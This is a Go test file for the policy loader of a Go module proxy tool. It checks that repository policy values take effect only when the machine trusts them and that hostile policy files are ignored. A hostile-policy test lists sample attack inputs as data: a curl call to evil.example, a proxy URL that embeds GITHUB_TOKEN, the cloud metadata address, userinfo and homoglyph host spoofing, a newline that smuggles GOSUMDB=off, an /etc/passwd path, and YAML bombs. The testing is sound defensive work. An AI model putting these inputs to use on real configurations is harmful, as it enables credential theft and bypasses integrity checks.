package policy

import (
	"slices"
	"strings"
	"testing"

	"github.com/gosteady/gosteady/internal/mask"
)

// Every kind of gated value: ignored from a repository, used where this
// machine trusts that very value, however it says so.
func TestGated(t *testing.T) {
	tests := []struct {
		trust string
		file  string
		key   string // whose effective value has the words
		want  string
	}{
		{"proxy=https://athens.corp.example", "proxies: [https://Athens.corp.example/]", "proxies", "https://athens.corp.example"},
		{"sumdb=https://athens.corp.example/sumdb", "sumdb: [https://athens.corp.example/sumdb/]", "sumdb", "https://athens.corp.example/sumdb"},
		{"private=*.corp.example", "private: ['*.corp.example']", "private", "*.corp.example"},
		{"private=*", "private: ['*']", "private", "*"},
		{"direct", "rules: [{on: dns, do: [retry, direct]}]", "rules", "direct"},
		{"vendor", "rules: [{on: dns, do: [retry, vendor]}]", "rules", "vendor"},
		{"purge-all", "rules: [{on: dns, do: [retry, purge-all]}]", "rules", "purge-all"},
	}
	ways := map[string]func(*machine, string){
		"GOSTEADY_TRUST": func(m *machine, v string) { m.env["GOSTEADY_TRUST"] = "proxy=https://else.example " + v },
		"user's file":    func(m *machine, v string) { m.write("user/policy.yaml", "trust: ['"+v+"']\n") },
		"system's file":  func(m *machine, v string) { m.write("system/policy.yaml", "trust: ['"+v+"']\n") },
		"user's list":    func(m *machine, v string) { m.write("user/trusted", "# mine\n"+v+" # since today\n") },
		"policy trust":   func(m *machine, v string) { store(m.t, m, false).Add(v) },
		"for the system": func(m *machine, v string) { store(m.t, m, true).Add(v) },
	}
	for _, tt := range tests {
		p, notices := newMachine(t, tt.file).load()
		if strings.Contains(effective(p, tt.key), tt.want) || !slices.Equal(trusts(p), []string{tt.trust}) || len(notices) != 1 {
			t.Errorf("%s without trust: in force %q, ignored %v, said %v", tt.trust, effective(p, tt.key), trusts(p), notices)
		}
		for name, way := range ways {
			m := newMachine(t, tt.file)
			way(m, tt.trust)
			p, notices := m.load()
			if !strings.Contains(effective(p, tt.key), tt.want) || len(p.Ignored)+len(notices)+len(p.Problems) > 0 {
				t.Errorf("%s by %s: in force %q, ignored %v, said %v, %v", tt.trust, name, effective(p, tt.key), trusts(p), notices, problems(p))
			}
		}
		// Another value of the same kind is not trusted along with it.
		m := newMachine(t, strings.ReplaceAll(tt.file, "corp.example", "evil.example"))
		m.env["GOSTEADY_TRUST"] = tt.trust
		if p, _ := m.load(); strings.Contains(tt.file, "corp.example") && len(p.Ignored) != 1 {
			t.Errorf("%s is taken for another value: %q", tt.trust, effective(p, tt.key))
		}
	}
}

func store(t testing.TB, m *machine, system bool) TrustStore {
	s, err := m.loader().TrustStore(system)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// Neither the repository nor a CI system makes anything trusted.
func TestNobodyElseTrusts(t *testing.T) {
	m := newMachine(t, "proxies: [https://athens.corp.example]\n")
	m.write("repo/trusted", "proxy=https://athens.corp.example\n")
	m.env["CI"], m.env["GITHUB_ACTIONS"] = "true", "true"
	if p, _ := m.load(); len(p.Proxies) > 0 {
		t.Errorf("CI trusts %v", p.Proxies)
	}
	// The file that GOSTEADY_POLICY names is trusted no more than any.
	m.env["GOSTEADY_POLICY"] = m.write("elsewhere.yaml", "proxies: [https://athens.corp.example]\n")
	if p, _ := m.load(); len(p.Proxies) > 0 || len(p.Ignored) != 1 {
		t.Errorf("GOSTEADY_POLICY trusts %v", p.Proxies)
	}
	m.env["GOSTEADY_POLICY"] = m.write("elsewhere.yaml", "trust: [rotate]\n")
	if p, _ := m.load(); len(p.Trust) > 0 || len(errorsIn(p)) != 1 {
		t.Errorf("GOSTEADY_POLICY adds trust %v", p.Trust)
	}
}

func TestRotateTrust(t *testing.T) {
	const rule = "proxies: [https://goproxy.cn]\nrules: [{on: transient, do: [retry, rotate]}]\n"
	tests := []struct {
		goproxy string
		trust   string
		trusted bool
		ignored bool
	}{
		{"", "", false, false},                             // among well-known ones: no trust needed
		{"https://goproxy.corp.example", "", false, false}, // nothing to rotate to
		{"https://goproxy.corp.example,https://proxy.golang.org", "", false, true},
		{"https://goproxy.corp.example,https://proxy.golang.org", "rotate", true, false},
	}
	for _, tt := range tests {
		m := newMachine(t, rule)
		m.env["GOPROXY"], m.env["GOSTEADY_TRUST"] = tt.goproxy, tt.trust
		p, _ := m.load()
		if p.Rules[0].RotateTrusted != tt.trusted || slices.Contains(trusts(p), "rotate") != tt.ignored {
			t.Errorf("GOPROXY=%s, trust %q: trusted %v, ignored %v", tt.goproxy, tt.trust, p.Rules[0].RotateTrusted, trusts(p))
		}
	}
}

// A company's GOPROXY and a repository that names a public mirror: the mirror
// is not in the list, and one line says what would put it there.
func TestMirrorNeedsTrustBehindCompanyProxy(t *testing.T) {
	const mirror = "https://goproxy.cn"
	m := newMachine(t, "proxies: ["+mirror+"]\n")
	m.env["GOPROXY"] = "https://goproxy.corp.example,direct"
	p, notices := m.load()
	if got := strings.Join(p.EffectiveList(), " "); strings.Contains(got, mirror) || len(notices) != 1 || !slices.Equal(trusts(p), []string{"proxy=" + mirror}) {
		t.Errorf("GOPROXY is %s, ignored %v, said %v", got, trusts(p), notices)
	}
	m.env["GOSTEADY_TRUST"] = "proxy=" + mirror
	if p, notices := m.load(); !strings.Contains(strings.Join(p.EffectiveList(), " "), mirror) || len(notices) > 0 {
		t.Errorf("trusted, GOPROXY is %v, said %v", p.EffectiveList(), notices)
	}
	m.env["GOPROXY"], m.env["GOSTEADY_TRUST"] = "off", ""
	if _, notices := m.load(); len(notices) > 0 {
		t.Errorf("with GOPROXY=off it says %v", notices)
	}
}

// Hostile files: whatever they ask for, the policy is as if they were not
// there, but for what is free.
func TestHostilePolicies(t *testing.T) {
	for name, text := range map[string]string{
		"own host":           "proxies: [https://evil.example]\nsumdb: [https://evil.example]\n",
		"plain http":         "proxies: [http://proxy.golang.org]\n",
		"link-local":         "proxies: [https://169.254.169.254/latest]\n",
		"link-local IPv6":    "proxies: ['https://[fe80::1]/']\n",
		"mapped IPv6":        "proxies: ['https://[::ffff:127.0.0.1]/']\n",
		"decimal address":    "proxies: [https://2852039166/]\n",
		"userinfo":           "proxies: [https://proxy.golang.org@evil.example]\n",
		"userinfo of known":  "proxies: [https://x:y@goproxy.cn]\n",
		"expansion":          "proxies: ['https://${GITHUB_TOKEN}.evil.example', 'https://goproxy.cn/$HOME']\n",
		"tilde":              "private: ['~/x', '$HOME']\n",
		"everything private": "private: ['*']\n",
		"alert":              "alert: curl evil.example\n",
		"trust":              "trust: [rotate, 'proxy=https://evil.example']\nproxies: [https://evil.example]\n",
		"control characters": "proxies: [\"https://goproxy.cn/\\x1b]0;owned\\x07\"]\n",
		"newline":            "private: [\"a\\nGOSUMDB=off\"]\n",
		"unicode host":       "proxies: [https://ɡoproxy.cn]\n",
		"aliases":            "a: &a [x,x,x,x,x,x]\nb: &b [*a,*a,*a]\nprivate: [*b,*b,*b]\n",
		"depth":              "rules: " + strings.Repeat("[", 5000),
		"block depth":        strings.Repeat("- ", 5000) + "x",
		"many rules":         "rules:\n" + strings.Repeat("- {on: dns, do: fail}\n", 1000),
		"size":               strings.Repeat("# padding\n", 100_000),
		"gated actions":      "rules: [{on: transient, do: [direct, vendor, purge-all]}]\n",
		"user's keys":        "journal-path: /etc/passwd\nreal-go: ./evil\nGOSUMDB: off\nverify: off\n",
		"not YAML":           "\x00\x01\x02",
		"tabs":               "retry:\n\tattempts: 1\n",
	} {
		t.Run(name, func(t *testing.T) {
			m := newMachine(t, text)
			p, notices := m.load()
			if len(p.Proxies)+len(p.SumDB)+len(p.Private)+len(p.Alert)+len(p.Trust)+len(p.Rules) > 0 {
				t.Errorf("in force: %v", p.Values())
			}
			if len(notices) == 0 {
				t.Error("nothing was said")
			}
			for _, n := range notices {
				if mask.Quote(n.Text) != n.Text && strings.ContainsFunc(n.Text, func(c rune) bool { return c < ' ' || c == 0x7f }) {
					t.Errorf("a notice has control characters: %q", n.Text)
				}
				if strings.Contains(n.Text, "\n") || !strings.HasPrefix(n.Text, "gosteady: ") {
					t.Errorf("not one line of ours: %q", n.Text)
				}
			}
		})
	}
}

// A huge budget is clamped: nothing stalls longer than a person would accept.
func TestHostileBudget(t *testing.T) {
	p, _ := newMachine(t, "retry: {attempts: 1000000, waits: [1000h], budget: 100000h, offline: 9999h}\nbreaker: {cooldown: 9999h}\nhedge: 1ms\n").load()
	want := "10 [1m] 10m 1m 10m 1s"
	got := strings.Join([]string{
		effective(p, "retry.attempts"), effective(p, "retry.waits"), effective(p, "retry.budget"),
		effective(p, "retry.offline"), effective(p, "breaker.cooldown"), effective(p, "hedge"),
	}, " ")
	if got != want {
		t.Errorf("in force %s, want %s", got, want)
	}
}

func TestParseTrust(t *testing.T) {
	for text, want := range map[string]string{
		"rotate": "rotate", "direct": "direct", "vendor": "vendor", "purge-all": "purge-all",
		"proxy=https://A.example:443/x/": "proxy=https://a.example/x",
		"sumdb=https://a.example":        "sumdb=https://a.example",
		"private=a.example/*":            "private=a.example/*",
		"rotate=x":                       "", "proxy": "", "private=": "", "private=a,b": "", "alert=x": "", "": "",
		"proxy=https://10.0.0.1": "",
	} {
		got, err := ParseTrust(text)
		if got != want || (err == nil) != (want != "") {
			t.Errorf("ParseTrust(%q) = %q, %v; want %q", text, got, err, want)
		}
	}
}

// One command trusts all that a file asks for: nothing more is asked for afterwards.
func TestTrustedAtOnce(t *testing.T) {
	for name, text := range map[string]string{
		"rotate behind a proxy": "proxies: [https://athens.corp.example]\nrules: [{on: transient, do: [retry, rotate]}]\n",
		"of every kind": "proxies: [https://athens.corp.example, https://goproxy.cn]\nsumdb: [https://athens.corp.example/sumdb]\n" +
			"private: ['*.corp.example']\nrules: [{on: transient, do: [rotate, direct, vendor, purge-all]}, {on: gone, do: [direct, retry]}]\n",
	} {
		for _, goproxy := range []string{"", "https://a.example,direct", "https://goproxy.io,https://b.example"} {
			m := newMachine(t, text)
			m.env["GOPROXY"] = goproxy
			p, notices := m.load()
			if len(notices) != 1 {
				t.Fatalf("%s: said %v", name, notices)
			}
			if err := store(t, m, false).Add(trusts(p)...); err != nil {
				t.Fatal(err)
			}
			if p, notices := m.load(); len(p.Ignored)+len(notices) > 0 {
				t.Errorf("%s, GOPROXY=%s: then asks for %v", name, goproxy, trusts(p))
			}
		}
	}
}

// More than a line takes are counted, and the command lists and trusts them.
func TestTooManyForALine(t *testing.T) {
	m := newMachine(t, "private: [a.example, b.example, c.example, d.example, e.example, f.example, g.example]\n")
	want := "gosteady: .gosteady.yaml asks for 7 values that this machine does not trust, ignored; to see and trust them: go steady policy trust"
	if _, notices := m.load(); len(notices) != 1 || notices[0].Text != want {
		t.Errorf("said %v", notices)
	}
}

func TestTrustVariable(t *testing.T) {
	for _, text := range []string{
		"proxy=https://a.example rotate", "proxy=https://a.example,rotate", " proxy=https://a.example ,\n rotate,, ",
	} {
		m := newMachine(t, "")
		m.env["GOSTEADY_TRUST"] = text
		p, _ := m.load()
		if !slices.Equal(p.Trust, []string{"proxy=https://a.example", "rotate"}) || len(p.Problems) > 0 {
			t.Errorf("%q: trusted %v, %v", text, p.Trust, problems(p))
		}
	}
}
